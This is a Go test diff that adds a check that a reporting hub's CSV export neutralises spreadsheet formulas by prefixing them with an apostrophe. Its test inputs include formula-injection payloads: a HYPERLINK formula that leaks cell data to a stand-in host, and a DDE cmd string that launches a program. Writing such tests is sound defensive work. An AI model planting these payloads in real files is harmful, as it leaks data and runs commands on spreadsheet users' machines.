@@ -302,3 +302,45 @@ func TestReportToken(t *testing.T) {
 		t.Errorf("healthz needs no token: %d", resp.StatusCode)
 	}
 }
+
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	th := startHub(t)
+	key := th.enroll(t, "VH-1", "pc1")
+	hostile := []string{`=HYPERLINK("http://x.example/?a="&A1,"bấm")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB"}
+	var snaps []wire.Snapshot
+	for i, v := range hostile {
+		snaps = append(snaps, snap("2026-11-20", "checkins", int64(i+1), int64(i+1), "note", v))
+	}
+	snaps = append(snaps, snap("2026-11-20", "checkins", 9, 9, "note", "-7")) // a number stays a number
+	if status, er, _ := th.do(t, signedRequest{device: "pc1", secret: key, body: pushBody(t, "VH-1", "pc1", snaps...)}); status != 200 {
+		t.Fatalf("push: %d %+v", status, er)
+	}
+	resp, err := http.Get(th.srv.URL + "/api/v1/report?period=day&at=2026-11-20&by=dim.note&format=csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	for _, r := range records[1:] {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-7" {
+				t.Errorf("cell %q would be a formula", cell)
+			}
+			seen[cell] = true
+		}
+	}
+	for _, v := range hostile {
+		if !seen["'"+v] {
+			t.Errorf("value %q not kept as text ('%s); got %v", v, v, records)
+		}
+	}
+	if !seen["-7"] {
+		t.Errorf("the number -7 was altered: %v", records)
+	}
+}
